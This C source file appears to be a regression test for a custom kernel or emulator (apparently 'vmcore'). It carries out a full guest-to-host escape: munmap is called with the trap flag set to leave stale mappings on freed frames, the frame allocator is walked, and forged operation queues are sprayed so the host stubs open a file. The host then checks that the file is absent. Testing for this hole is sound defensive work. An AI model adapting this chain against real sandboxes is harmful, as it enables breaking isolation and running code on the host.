/* esc_chain PATH [REGIONS] [SECONDS]: the whole of hole 1 as an attacker
 * plays it (docs/security.md, "Stub walls").
 *
 *  1. REGIONS times (default 64): map 16 pages at an address of our own
 *     choosing, touch them, munmap them with EFLAGS.TF set.  Where the
 *     stub's batch ran with the guest's TF, the single-step trap after its
 *     first instruction passed for the batch's end, the host munmap never
 *     ran and the pages stayed mapped, writable, on frames the kernel had
 *     freed.  Each region is probed: a read that does not fault means a
 *     stale mapping ("live").
 *  2. The frame allocator is walked (memory mapped, touched, unmapped)
 *     until it starts handing out our frames, then children are forked:
 *     each new stub takes its data pages (its operation queue) from there.
 *     The children keep their stubs busy (mmap/munmap rounds).
 *  3. Two threads spray every live page with a forged queue: operations
 *     openat(AT_FDCWD, PATH, O_CREAT|O_WRONLY, 0644) whose path string sits
 *     in the same page, at STUB_DATA + 0x800 in the stub's view.  A stub
 *     whose queue is one of our pages runs them as host calls.
 *
 * Prints how many regions were live and exits 0; the host checks that
 * PATH does not exist.  Natively no region is ever live (munmap unmaps),
 * so the output is the same on Linux and on a sound vmcore. */
#include <fcntl.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <ucontext.h>
#include <unistd.h>

#define STUB_DATA 0x7f0000010000UL /* where a stub sees its queue */
#define REGION_PAGES 16
#define BASE 0x300000000000UL /* our regions: far from malloc and stacks */
#define MAX_REGIONS 256

static char *live[MAX_REGIONS];
static int nlive;
static const char *path;
static volatile int stop_spray;
struct sprayer {
	int first;
	unsigned long forged, other; /* queue pages forged, other reused pages seen */
};
static sigjmp_buf segv_env;

static void on_trap(int sig, siginfo_t *si, void *ctx)
{
	ucontext_t *uc = ctx;
	(void)sig;
	(void)si;
	uc->uc_mcontext.gregs[REG_EFL] &= ~0x100L;
}

static void on_segv(int sig)
{
	(void)sig;
	siglongjmp(segv_env, 1);
}

static long tf_munmap(void *p, size_t len)
{
	long r;
	asm volatile("pushfq\n\torq $0x100, (%%rsp)\n\tpopfq\n\tsyscall"
		     : "=a"(r)
		     : "0"((long)SYS_munmap), "D"(p), "S"(len)
		     : "rcx", "r11", "memory", "cc");
	return r;
}

/* One forged queue page: openat ops, then the path they name. */
static void forge(char *page)
{
	unsigned long *op = (unsigned long *)page;
	size_t n = strlen(path) + 1;
	memcpy(page + 0x800, path, n < 0x800 ? n : 0x7ff);
	for (int i = 0; i < 0x800 / 56; i++) {
		op[i * 7 + 0] = SYS_openat;
		op[i * 7 + 1] = (unsigned long)AT_FDCWD;
		op[i * 7 + 2] = STUB_DATA + 0x800;
		op[i * 7 + 3] = O_CREAT | O_WRONLY;
		op[i * 7 + 4] = 0644;
		op[i * 7 + 5] = 0;
		op[i * 7 + 6] = 0;
	}
}

/* A page that holds a queue the kernel has just written: its first
 * operation is a host mmap, mprotect or munmap of a guest address. */
static int looks_queued(const char *page)
{
	const volatile unsigned long *op = (const volatile unsigned long *)page;
	unsigned long nr = op[0], addr = op[1];
	return (nr == SYS_mmap || nr == SYS_mprotect || nr == SYS_munmap) && addr &&
	       addr < STUB_DATA && !(addr & 4095);
}

static void *spray(void *arg)
{
	struct sprayer *sp = arg;
	unsigned long forged = 0, other = 0;
	while (!stop_spray)
		for (int r = sp->first; r < nlive; r += 2)
			for (int pg = 0; pg < REGION_PAGES; pg++) {
				char *page = live[r] + pg * 4096;
				long w = *(volatile long *)page;
				if (looks_queued(page)) {
					forge(page);
					forged++;
				} else if (w && w != SYS_openat) {
					other++;
				}
			}
	sp->forged = forged;
	sp->other = other;
	return NULL;
}

/* How many of our stale pages the kernel has handed out again (the
 * marker the page was given is gone: it was zeroed for its new owner). */
static int reused_pages(void)
{
	int n = 0;
	for (int r = 0; r < nlive; r++)
		for (int pg = 0; pg < REGION_PAGES; pg++)
			n += ((volatile char *)live[r])[pg * 4096 + 100] != 0x5a;
	return n;
}

/* The allocator hands frames out next-fit: walk it round physmem (map,
 * touch, unmap 16 pages at a time) until it starts on our frames, so that
 * the stubs born next take their queues from them. */
static void walk_to_our_frames(void)
{
	int before = reused_pages();
	for (int step = 0; step < 4096; step++) {
		char *m = mmap(NULL, 16 * 4096, PROT_READ | PROT_WRITE,
			       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (m == MAP_FAILED)
			return;
		for (int i = 0; i < 16; i++)
			m[i * 4096] = 1;
		munmap(m, 16 * 4096);
		if (reused_pages() > before)
			return;
	}
}

/* A child: rounds of mmap/touch/munmap, so that its stub runs batches. */
static void busy_child(int seconds)
{
	time_t end = time(NULL) + seconds;
	while (time(NULL) < end) {
		char *p = mmap(NULL, 8 * 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
			       -1, 0);
		if (p == MAP_FAILED)
			continue;
		for (int i = 0; i < 8; i++)
			p[i * 4096] = 1;
		munmap(p, 8 * 4096);
	}
	_exit(0);
}

/* Step 1: REGIONS regions TF-munmapped; the live ones in live[]. */
static int make_stale(int regions)
{
	for (volatile int i = 0; i < regions; i++) {
		char *want = (char *)(BASE + (unsigned long)i * 2 * REGION_PAGES * 4096);
		char *p = mmap(want, REGION_PAGES * 4096, PROT_READ | PROT_WRITE,
			       MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
		if (p != want) {
			printf("mmap of region %d failed\n", i);
			return 1;
		}
		for (int k = 0; k < REGION_PAGES; k++)
			p[k * 4096 + 100] = 0x5a; /* not the first word: see spray */
		if (tf_munmap(p, REGION_PAGES * 4096) != 0) {
			printf("munmap of region %d failed\n", i);
			return 1;
		}
		if (sigsetjmp(segv_env, 1) == 0) {
			volatile char c = p[0];
			(void)c;
			live[nlive++] = p;
		}
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: esc_chain PATH [REGIONS] [SECONDS]\n");
		return 2;
	}
	path = argv[1];
	int regions = argc > 2 ? atoi(argv[2]) : 64;
	int seconds = argc > 3 ? atoi(argv[3]) : 2;
	if (regions < 1 || regions > MAX_REGIONS)
		regions = 64;
	struct sigaction sa;
	memset(&sa, 0, sizeof(sa));
	sa.sa_sigaction = on_trap;
	sa.sa_flags = SA_SIGINFO;
	sigaction(SIGTRAP, &sa, NULL);
	signal(SIGSEGV, on_segv);
	setvbuf(stdout, NULL, _IONBF, 0);

	if (make_stale(regions))
		return 1;
	signal(SIGSEGV, SIG_DFL);
	printf("regions with TF-munmapped pages still mapped: %d of %d\n", nlive, regions);

	/* 2 and 3: busy stubs while two threads spray */
	pthread_t t[2];
	struct sprayer sp[2] = {{.first = 0}, {.first = 1}};
	pthread_attr_t a; /* small stacks: every fork copies the commit of ours */
	pthread_attr_init(&a);
	pthread_attr_setstacksize(&a, 64 << 10);
	for (int i = 0; i < 2; i++)
		pthread_create(&t[i], &a, spray, &sp[i]);
	time_t end = time(NULL) + seconds;
	while (time(NULL) < end) {
		if (nlive)
			walk_to_our_frames();
		/* a burst of new stubs: each takes its queue's frames where
		 * the allocator stands */
		for (int i = 0; i < 16; i++)
			if (fork() == 0)
				busy_child(1);
		while (waitpid(-1, NULL, 0) > 0)
			;
	}
	while (waitpid(-1, NULL, 0) > 0)
		;
	stop_spray = 1;
	for (int i = 0; i < 2; i++)
		pthread_join(t[i], NULL);
	unsigned long forged = sp[0].forged + sp[1].forged, other = sp[0].other + sp[1].other;
	printf("queues forged: %s; other pages reused: %s\n", forged ? "some" : "none",
	       other ? "some" : "none");
	return 0;
}
